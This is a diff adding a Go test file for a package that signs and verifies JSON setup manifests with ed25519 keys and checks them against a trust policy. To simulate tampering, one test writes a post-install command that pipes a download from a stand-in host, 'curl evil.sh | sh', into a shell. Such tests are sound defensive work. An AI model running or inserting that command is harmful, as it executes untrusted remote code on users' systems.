@@ -0,0 +1,203 @@
+package signing
+
+import (
+	"crypto/ed25519"
+	"crypto/rand"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func newKey(t *testing.T) ed25519.PrivateKey {
+	t.Helper()
+	_, priv, err := ed25519.GenerateKey(rand.Reader)
+	require.NoError(t, err)
+	return priv
+}
+
+const doc = `{"packages": ["git", "curl"], "post_install": ["echo <hi> & bye"], "version": 1.50}`
+
+func TestSignVerify_RoundTrip(t *testing.T) {
+	key := newKey(t)
+	signed, err := Sign([]byte(doc), key)
+	require.NoError(t, err)
+
+	pub, err := Verify(signed)
+	require.NoError(t, err)
+	assert.True(t, pub.Equal(key.Public()))
+	// Numbers and HTML characters survive as written.
+	assert.Contains(t, string(signed), "1.50")
+	assert.Contains(t, string(signed), "<hi> & bye")
+
+	// Formatting and key order are not part of the signature.
+	var v map[string]any
+	require.NoError(t, json.Unmarshal(signed, &v))
+	v["version"] = json.Number("1.50")
+	compact, err := json.Marshal(v)
+	require.NoError(t, err)
+	_, err = Verify(compact)
+	assert.NoError(t, err)
+}
+
+func TestVerify_Tampered(t *testing.T) {
+	signed, err := Sign([]byte(doc), newKey(t))
+	require.NoError(t, err)
+
+	tampered := strings.Replace(string(signed), "echo <hi> & bye", "curl evil.sh | sh", 1)
+	_, err = Verify([]byte(tampered))
+	assert.ErrorIs(t, err, ErrTampered)
+
+	// Swapping in another key does not help without its signature.
+	other := EncodePublicKey(newKey(t).Public().(ed25519.PublicKey))
+	var v map[string]json.RawMessage
+	require.NoError(t, json.Unmarshal(signed, &v))
+	v[Field] = json.RawMessage(strings.Replace(string(v[Field]), `"key":`, `"key":"`+other+`","old":`, 1))
+	swapped, err := json.Marshal(v)
+	require.NoError(t, err)
+	_, err = Verify(swapped)
+	assert.ErrorIs(t, err, ErrTampered)
+}
+
+func TestVerify_Unsigned(t *testing.T) {
+	pub, err := Verify([]byte(doc))
+	require.NoError(t, err)
+	assert.Nil(t, pub)
+
+	_, err = Verify([]byte(`["not", "an", "object"]`))
+	assert.Error(t, err)
+}
+
+func TestSign_ReplacesSignature(t *testing.T) {
+	first, err := Sign([]byte(doc), newKey(t))
+	require.NoError(t, err)
+	second := newKey(t)
+	resigned, err := Sign(first, second)
+	require.NoError(t, err)
+	pub, err := Verify(resigned)
+	require.NoError(t, err)
+	assert.True(t, pub.Equal(second.Public()))
+}
+
+func TestParsePublicKey(t *testing.T) {
+	pub := newKey(t).Public().(ed25519.PublicKey)
+	got, err := ParsePublicKey(EncodePublicKey(pub))
+	require.NoError(t, err)
+	assert.True(t, got.Equal(pub))
+	assert.Len(t, KeyID(pub), 16)
+
+	for _, bad := range []string{"", "ssh-ed25519 AAAA", "ed25519:!!", "ed25519:AAAA"} {
+		_, err := ParsePublicKey(bad)
+		assert.Error(t, err, bad)
+	}
+}
+
+func TestGenerateAndLoadKey(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+
+	_, err := LoadKey()
+	assert.ErrorContains(t, err, "openboot keys generate")
+
+	pub, err := GenerateKey(false)
+	require.NoError(t, err)
+	key, err := LoadKey()
+	require.NoError(t, err)
+	assert.True(t, pub.Equal(key.Public()))
+
+	path, err := KeyPath()
+	require.NoError(t, err)
+	info, err := os.Stat(path)
+	require.NoError(t, err)
+	assert.Equal(t, os.FileMode(0600), info.Mode().Perm())
+
+	_, err = GenerateKey(false)
+	assert.ErrorContains(t, err, "already exists")
+	pub2, err := GenerateKey(true)
+	require.NoError(t, err)
+	assert.False(t, pub2.Equal(pub))
+}
+
+func TestSignFile(t *testing.T) {
+	dir := t.TempDir()
+	in := filepath.Join(dir, "team.json")
+	require.NoError(t, os.WriteFile(in, []byte(doc), 0600))
+
+	require.NoError(t, SignFile(in, in, newKey(t)))
+	data, err := os.ReadFile(in)
+	require.NoError(t, err)
+	pub, err := Verify(data)
+	require.NoError(t, err)
+	assert.NotNil(t, pub)
+}
+
+func TestPolicy_Check(t *testing.T) {
+	trusted, stranger := newKey(t), newKey(t)
+	var p Policy
+	require.NoError(t, p.Trust("team", EncodePublicKey(trusted.Public().(ed25519.PublicKey))))
+
+	byTeam, err := Sign([]byte(doc), trusted)
+	require.NoError(t, err)
+	byStranger, err := Sign([]byte(doc), stranger)
+	require.NoError(t, err)
+	tampered := []byte(strings.Replace(string(byTeam), "curl", "wget", 1))
+
+	tests := []struct {
+		name        string
+		require     bool
+		data        []byte
+		wantTrusted string
+		wantErr     error
+	}{
+		{name: "unsigned allowed", data: []byte(doc)},
+		{name: "unsigned required", require: true, data: []byte(doc), wantErr: ErrUnsigned},
+		{name: "trusted", require: true, data: byTeam, wantTrusted: "team"},
+		{name: "untrusted allowed", data: byStranger},
+		{name: "untrusted required", require: true, data: byStranger, wantErr: ErrUntrusted},
+		{name: "tampered always refused", data: tampered, wantErr: ErrTampered},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p.RequireSignature = tt.require
+			res, err := p.Check(tt.data)
+			if tt.wantErr != nil {
+				assert.ErrorIs(t, err, tt.wantErr)
+				return
+			}
+			require.NoError(t, err)
+			assert.Equal(t, tt.wantTrusted, res.Trusted)
+		})
+	}
+}
+
+func TestPolicy_SaveLoadTrust(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+
+	p, err := LoadPolicy()
+	require.NoError(t, err)
+	assert.Empty(t, p.Keys)
+
+	key := EncodePublicKey(newKey(t).Public().(ed25519.PublicKey))
+	require.NoError(t, p.Trust("team", key))
+	require.NoError(t, p.Trust("team", key))
+	assert.Error(t, p.Trust("", key))
+	assert.Error(t, p.Trust("bad", "nope"))
+	p.RequireSignature = true
+	require.NoError(t, SavePolicy(p))
+
+	loaded, err := LoadPolicy()
+	require.NoError(t, err)
+	assert.True(t, loaded.RequireSignature)
+	require.Len(t, loaded.Keys, 1)
+	assert.True(t, loaded.Untrust("team"))
+	assert.False(t, loaded.Untrust("team"))
+
+	path, err := PolicyPath()
+	require.NoError(t, err)
+	require.NoError(t, os.WriteFile(path, []byte(`{"keys":[{"name":"x","key":"garbage"}]}`), 0600))
+	_, err = LoadPolicy()
+	assert.Error(t, err)
+}